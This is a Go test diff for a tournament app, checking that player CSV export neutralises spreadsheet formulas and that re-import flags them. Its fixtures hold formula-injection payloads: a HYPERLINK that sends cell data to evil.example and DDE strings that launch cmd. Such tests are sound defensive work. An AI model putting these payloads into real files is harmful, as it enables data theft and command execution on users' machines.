@@ -2,6 +2,7 @@ package tournament
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -249,4 +250,35 @@ func TestImportFixes(t *testing.T) {
 	assert.Equal(t, Player{FirstName: "Ugo", LastName: "Gialli", Email: "ugo@gialli.it", Notes: "n1", Active: true}, rows[0].Player,
 		"a fix changes its cell, normalized, and keeps the rest of the row")
 	assert.Equal(t, "Senza", rows[1].Player.LastName)
+}
+
+// The cells of issue 9: an export shows them as text, a re-import gives them back as
+// they were, and the preview flags them.
+func TestCSVExportNeutralizesFormulas(t *testing.T) {
+	p := Player{
+		FirstName: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+		LastName:  `+cmd|' /C calc'!A0`,
+		Club:      `-2+3+cmd|' /C calc'!A0`,
+		Notes:     `@SUM(1+1)*cmd|' /C calc'!A0`,
+		Phone:     "+39 06 123456",
+		Active:    true,
+	}
+	q := Player{FirstName: "Anna", LastName: "Rossi", CardNumber: "-100", Notes: "-100", Active: true}
+	var buf bytes.Buffer
+	require.NoError(t, WritePlayersCSV(&buf, []Player{p, q}))
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")))).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, recs, 3)
+	assert.Equal(t, []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`,
+		"", "", "'+39 06 123456", `'@SUM(1+1)*cmd|' /C calc'!A0`, "yes"}, recs[1])
+	assert.Equal(t, []string{"Anna", "Rossi", "", "-100", "", "", "-100", "yes"}, recs[2], "numbers stay numbers")
+
+	rows, _, err := ParsePlayersCSV(bytes.NewReader(buf.Bytes()))
+	require.NoError(t, err)
+	require.Len(t, rows, 2)
+	assert.Equal(t, p, rows[0].Player, "a re-import gives the cells back as they were")
+	assert.Equal(t, map[string]string{"first_name": "import.formula", "last_name": "import.formula", "club": "import.formula",
+		"notes": "import.formula"}, rows[0].Warnings)
+	assert.Equal(t, q, rows[1].Player)
+	assert.Empty(t, rows[1].Warnings)
 }
